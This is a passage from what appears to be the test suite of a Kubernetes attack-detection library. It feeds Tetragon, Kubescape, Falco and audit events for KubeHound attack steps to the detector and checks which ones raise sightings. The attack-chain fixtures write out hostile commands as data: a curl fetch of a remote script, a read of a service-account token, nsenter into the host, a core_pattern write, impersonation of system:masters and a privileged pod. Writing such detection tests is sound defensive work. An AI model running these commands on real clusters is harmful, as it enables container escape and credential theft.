     [audit("watch", "secrets", name=None, ns=None, user="system:kube-controller-manager")], None),
    ("TOKEN_LIST", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:2)",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 2)], "Secrets listed from a pod"),
    ("TOKEN_LIST", "tetragon", "SYNTH(kubectl get secrets -o json from a pod)", [execve("/tmp/kubectl", "get secrets -o json")], "Secrets listed from a pod"),
    ("TOKEN_LIST", "tetragon", "SYNTH(kubectl get secret by name is no listing)", [execve("/tmp/kubectl", "get secret web-tls -o yaml")], None),
    # VOLUME_ACCESS
    ("VOLUME_ACCESS", "tetragon", "SYNTH(ls of a pod's volumes on the node)",
     [execve("/usr/bin/ls", "-la /var/lib/kubelet/pods/5a9fc508/volumes/", pod=False)], "Pod volumes listed on the node"),
    ("VOLUME_ACCESS", "tetragon", "SYNTH(LSM read of a pod volume by a node shell)",
     [kprobe("security_file_permission", [{"file_arg": {"path": "/var/lib/kubelet/pods/5a9fc508/volumes/kubernetes.io~secret/db/password"}}, {"int_arg": 4}], "/usr/bin/cat", "", pod=False)],
     "Pod volume read on the node (LSM)"),
    ("VOLUME_ACCESS", "tetragon", "SYNTH(the kubelet itself)",
     [kprobe("security_file_permission", [{"file_arg": {"path": "/var/lib/kubelet/pods/5a9fc508/volumes/kubernetes.io~secret/db/password"}}, {"int_arg": 4}], "/usr/bin/kubelet", "--config=/var/lib/kubelet/config.yaml", pod=False)], None),
    # VOLUME_DISCOVER
    ("VOLUME_DISCOVER", "tetragon", "SYNTH(cat /proc/self/mounts, the catalogue's command)", [execve("/bin/cat", "/proc/self/mounts")], "Mount listing command in a pod"),
    ("VOLUME_DISCOVER", "tetragon", "SYNTH(openat of mountinfo by cat)",
     [kprobe("__x64_sys_openat", [{"int_arg": -100}, {"string_arg": "/proc/self/mountinfo"}, {"int_arg": 524288}], "/bin/cat", "/proc/self/mountinfo")],
     "Mount table read by a shell tool (syscall)"),
    ("VOLUME_DISCOVER", "kubescape", "SYNTH(R0002 on /proc/self/mounts)",
     [kubescape("R0002", "Unexpected file access", {"path": "/proc/self/mounts", "flags": ["O_RDONLY"]})], "Kubescape: mount table read"),
    ("VOLUME_DISCOVER", "tetragon", "SYNTH(a JVM reads mountinfo at start-up)",
     [kprobe("__x64_sys_openat", [{"int_arg": -100}, {"string_arg": "/proc/self/mountinfo"}, {"int_arg": 524288}], "/usr/bin/java", "-jar app.jar")], None),
    ("VOLUME_DISCOVER", "kubescape", "REAL(kubescape/honeycluster-webapp-ping.jsonl:7) a library read",
     [corpus("kubescape/honeycluster-webapp-ping.jsonl", 7)], None),
]


def test_cases():
    table = {}
    # one storm run per case, two at a time (independent runs; results are
    # checked in case order)
    from concurrent.futures import ThreadPoolExecutor
    with ThreadPoolExecutor(2) as pool:
        results = list(pool.map(lambda c: run(c[3]), CASES))
    for (kh, sensor, prov, events, want), got in zip(CASES, results):
        step = step_of(kh)
        mine = [s for s in got if s[1] == step]
        key = (kh, sensor)
        m, n = table.get(key, (0, 0))
        if want:
            check(any(s[2] == want for s in mine), "%s %s %s: expected a sighting of %r, got %s" % (kh, sensor, prov, want, got))
            table[key] = (m + 1, n)
        else:
            check(not mine, "%s %s %s: expected no sighting of %s, got %s" % (kh, sensor, prov, step, mine))
            table[key] = (m, n + 1)
    # every KubeHound step has cases that must match and cases that must not
    for kh in sorted({c[0] for c in CASES}):
        ms = sum(v[0] for k, v in table.items() if k[0] == kh)
        ns = sum(v[1] for k, v in table.items() if k[0] == kh)
        check(ms > 0, "%s has events that must match" % kh)
        check(ns > 0, "%s has events that must not match" % kh)
        print("%-24s match %2d  no-match %2d  sensors %s" % (kh, ms, ns, ",".join(sorted({k[1] for k in table if k[0] == kh}))))
    check(len({c[0] for c in CASES}) == 26, "all 26 KubeHound attacks have cases")


# Attack chains (the related-to order of the tree): each a time-ordered list
# of (KubeHound id, event); one storm run over the whole sequence must sight
# each step, in that order, under the step's technique ids.
def chains():
    t0 = 1800000000
    return {
        "exploited endpoint -> token -> API -> secrets -> role binding -> privileged pod -> nsenter": [
            ("ENDPOINT_EXPLOIT", execve("/usr/bin/curl", "-s http://203.0.113.7/x.sh", parent=("/usr/bin/java", "-jar app.jar"), t=t0)),
            ("TOKEN_STEAL", kprobe("security_file_permission", [{"file_arg": {"path": "/run/secrets/kubernetes.io/serviceaccount/..2026/token"}}, {"int_arg": 4}], "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", t=t0 + 10)),
            ("IDENTITY_ASSUME", audit("get", "namespaces", name="default", ua="curl/8.5.0", t=t0 + 20)),
            ("PERMISSION_DISCOVER", audit("create", "selfsubjectrulesreviews", name=None, ns=None, group="authorization.k8s.io", t=t0 + 30)),
            ("TOKEN_LIST", audit("list", "secrets", name=None, t=t0 + 40)),
            ("ROLE_BIND", audit("create", "clusterrolebindings", name=None, ns=None, group="rbac.authorization.k8s.io", t=t0 + 50)),
            ("POD_CREATE", audit("create", "pods", name=None, body={"kind": "Pod", "metadata": {"name": "attack"}, "spec": {"hostPID": True, "containers": [{"name": "a", "image": "ubuntu", "securityContext": {"privileged": True}}]}}, t=t0 + 60)),
            ("CE_NSENTER", execve("/usr/bin/nsenter", "--target 1 --mount --uts --ipc --net --pid -- bash", t=t0 + 70)),
        ],
        "volume discovery -> host traverse -> usermode helper": [
            ("VOLUME_DISCOVER", execve("/bin/cat", "/proc/self/mounts", t=t0 + 100)),
            ("EXPLOIT_HOST_TRAVERSE", execve("/usr/bin/find", "/host/var/lib/kubelet/pods/ -name token -type l", t=t0 + 110)),
            ("CE_UMH_CORE_PATTERN", kprobe("security_file_permission", [{"file_arg": {"path": "/sysproc/sys/kernel/core_pattern"}}, {"int_arg": 2}], "/bin/bash", "", t=t0 + 120)),
        ],
        "discovery -> impersonation -> pod patch and debug container (audit and Falco)": [
            ("PERMISSION_DISCOVER", audit("create", "selfsubjectrulesreviews", name=None, ns=None, group="authorization.k8s.io", user="mallory",
                                          body={"kind": "SelfSubjectRulesReview", "spec": {"namespace": "default"}}, t=t0 + 200)),
            ("IDENTITY_IMPERSONATE", execve("/tmp/kubectl", "get pods --as=null --as-group=system:masters", t=t0 + 210)),
            ("POD_PATCH", audit("patch", "pods", body={"spec": {"containers": [{"name": "web", "image": "kalilinux/kali-last-release"}]}}, t=t0 + 220)),
            ("CONTAINER_ATTACH", falco("EphemeralContainers Created", t=t0 + 230)),
        ],
        "runtime socket -> node -> container entered": [
            ("EXPLOIT_CONTAINERD_SOCK", execve("/tmp/crictl", "--runtime-endpoint unix:///host/run/containerd/containerd.sock ps", t=t0 + 300)),
            ("POD_ATTACH", execve("/usr/local/bin/crictl", "exec -it 05c862f55a017 sh", pod=False, t=t0 + 310)),
            ("VOLUME_ACCESS", execve("/usr/bin/ls", "/var/lib/kubelet/pods/5a9fc508/volumes/", pod=False, t=t0 + 320)),
        ],
    }


def test_chains():
    for name, seq in chains().items():
        got = run([e for _, e in seq])
        order = []
        for _, step, _ in got:
            if step not in order:
                order.append(step)
        want = [step_of(kh) for kh, _ in seq]
        firsts = [order.index(s) if s in order else -1 for s in want]
        check(-1 not in firsts, "%s: every step sighted (%s, got %s)" % (name, want, order))
        check(firsts == sorted(firsts), "%s: steps sighted in order (%s)" % (name, order))
        for kh, _ in seq:
            step = step_of(kh)
            # the technique of KubeHound's page is one of the step's ATT&CK references
            check(len(TECH.get(step, [])) > 0, "%s: %s carries its technique id" % (name, step))
        print("chain %s: %s" % (name, " -> ".join("%s %s" % (s, "/".join(TECH[s])) for s in want)))


KH_TECHNIQUE = {   # KubeHound's own technique per attack (docs/reference/attacks/*.md)
    "CE_MODULE_LOAD": "T1611", "CE_NSENTER": "T1611", "CE_PRIV_MOUNT": "T1611", "CE_SYS_PTRACE": "T1611",
    "CE_UMH_CORE_PATTERN": "T1611", "CE_VAR_LOG_SYMLINK": "T1611", "CONTAINER_ATTACH": "T1609", "ENDPOINT_EXPLOIT": "T1210",
    "EXPLOIT_CONTAINERD_SOCK": "T1610", "EXPLOIT_HOST_READ": "T1611", "EXPLOIT_HOST_TRAVERSE": "T1552", "EXPLOIT_HOST_WRITE": "T1611",
    "IDENTITY_ASSUME": "T1078", "IDENTITY_IMPERSONATE": "T1078", "PERMISSION_DISCOVER": "T1069", "POD_ATTACH": "T1609",
    "POD_CREATE": "T1610", "POD_EXEC": "T1609", "POD_PATCH": "T1609", "ROLE_BIND": "T1078", "SHARE_PS_NAMESPACE": "T1080",
    "TOKEN_BRUTEFORCE": "T1528", "TOKEN_LIST": "T1528", "TOKEN_STEAL": "T1552",
    "VOLUME_ACCESS": "T1613", "VOLUME_DISCOVER": "T1613",
}


def test_techniques():
    """Every step names KubeHound's technique (or a sub-technique of it) among its ATT&CK references."""
    for kh, t in KH_TECHNIQUE.items():
        step = step_of(kh)
        ids = TECH.get(step, [])
        check(any(i == t or i.startswith(t + ".") for i in ids), "%s: technique %s in %s" % (kh, t, ids))


def test_policies():
    """Every indicator on a kernel hook names a policy file that exists and declares that hook."""
    for f in sorted(os.listdir(MODELS)):
        if not f.endswith(".json"):
            continue
        for o in json.load(open(os.path.join(MODELS, f)))["objects"]:
            if o["type"] != "indicator" or "x_hook_name" not in o["pattern"]:
                continue
            refs = [r for r in o.get("external_references", []) if r["source_name"] == "tetragon-tracingpolicy"]
            check(len(refs) == 1, "%s: %s names its TracingPolicy" % (f, o["name"]))
            if not refs:
                continue
            path = os.path.join(ROOT, refs[0]["description"].split(":")[0])
            check(os.path.exists(path), "%s exists" % path)
            text = open(path).read() if os.path.exists(path) else ""
            import re
            for one, many in re.findall(r"x_hook_name (?:= '([^']*)'|IN \(([^)]*)\))", o["pattern"]):
                names = [one] if one else [h.strip(" '") for h in many.split(",")]
                # a syscall hook __x64_sys_X comes from the policy's call sys_X
                check(any(('"%s"' % n.replace("__x64_", "").replace("__arm64_", "")) in text for n in names),
                      "%s: the policy declares %s" % (o["name"], names))


if __name__ == "__main__":
    test_techniques()
    test_policies()
    test_cases()
    test_chains()
    print("test_attacklib: %d passed, %d failed" % (passed, failed))
    sys.exit(1 if failed else 0)
